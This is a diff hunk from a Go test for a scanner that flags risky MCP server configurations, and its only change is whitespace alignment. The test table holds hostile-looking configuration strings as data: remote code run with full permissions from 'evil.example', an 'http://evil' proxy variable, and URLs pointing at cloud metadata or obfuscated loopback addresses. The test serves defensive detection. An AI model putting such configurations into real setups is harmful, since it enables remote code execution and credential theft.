@@ -24,7 +24,7 @@ func TestShapes(t *testing.T) {
 		`"command":"uv","args":["tool","run","evil"]`:                                          CodeUnpinnedPackage,
 		`"command":"go","args":["run","example.com/x@latest"]`:                                 CodeUnpinnedPackage,
 		`"command":"deno","args":["run","-A","https://evil.example/x.ts"]`:                     CodeUnpinnedPackage,
-		`"command":"podman","args":["run","-i","registry.example/a/b"]`:                                 CodeFloatingImage,
+		`"command":"podman","args":["run","-i","registry.example/a/b"]`:                        CodeFloatingImage,
 		`"command":"node","args":["server.js"],"env":{"http_proxy":"http://evil"}`:             CodeLoaderVariable,
 		`"type":"http","url":"https://[::ffff:169.254.169.254]/mcp"`:                           CodeMetadataAddress,
 		`"type":"http","url":"https://0x7f.1/mcp"`:                                             CodeMetadataAddress,
